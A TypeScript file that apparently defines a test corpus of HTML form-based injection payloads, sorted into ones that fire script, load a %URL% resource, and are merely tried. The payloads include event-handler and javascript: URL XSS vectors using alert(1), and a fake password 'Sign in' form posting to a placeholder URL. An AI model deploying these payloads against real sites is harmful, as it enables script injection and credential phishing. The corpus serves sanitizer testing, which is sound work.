import { family } from "./payload.ts";

const CONTROLS = [
  "text",
  "password",
  "search",
  "email",
  "number",
  "checkbox",
  "radio",
  "range",
  "color",
  "date",
  "file",
  "hidden",
];

export const forms = family("forms", {
  fires: [
    ...CONTROLS.slice(0, 11).map((type) => `<input type="${type}" value="x" onchange="alert(1)">`),
    '<form onsubmit="alert(1)"><button>Sign in</button></form>',
    '<form onreset="alert(1)"><input type="reset"></form>',
    '<form id="f"></form><button form="f" formaction="javascript:alert(1)">Vote</button>',
    '<form><input type="submit" formaction="javascript:alert(1)" value="Vote"></form>',
    '<form><input type="image" formaction="javascript:alert(1)" alt="Vote"></form>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form action="javascript:alert(1)" method="post"><button>Send</button></form>',
    '<select onchange="alert(1)"><option>One</option></select>',
    '<textarea onfocus="alert(1)" autofocus>Words</textarea>',
    '<label onclick="alert(1)">Name <input></label>',
    '<fieldset onclick="alert(1)"><legend>Vote</legend></fieldset>',
    '<button onclick="alert(1)">Go on</button>',
    '<input list="l" oninput="alert(1)"><datalist id="l"><option value="x"></datalist>',
    '<output onclick="alert(1)">12</output><meter onclick="alert(1)" value="1">1</meter>',
  ],
  loads: ['<form><input type="image" src="%URL%" alt="Vote"></form>'],
  tries: [
    ...CONTROLS.map((type) => `<p>Sign in again: <input type="${type}" name="${type}" value="x"></p>`),
    '<form action="%URL%" method="post"><input name="user"><input name="password" type="password"><button>Sign in</button></form>',
    '<form action="%URL%"><select><option>One<option>Two</select><textarea>Why?</textarea></form>',
    '<form method="dialog"><button value="x">Close</button></form>',
    '<isindex action="javascript:alert(1)" prompt="Search">',
    '<keygen autofocus onfocus="alert(1)">',
    '<selectedcontent>Chosen</selectedcontent><optgroup label="x"><option>y</optgroup>',
  ],
});
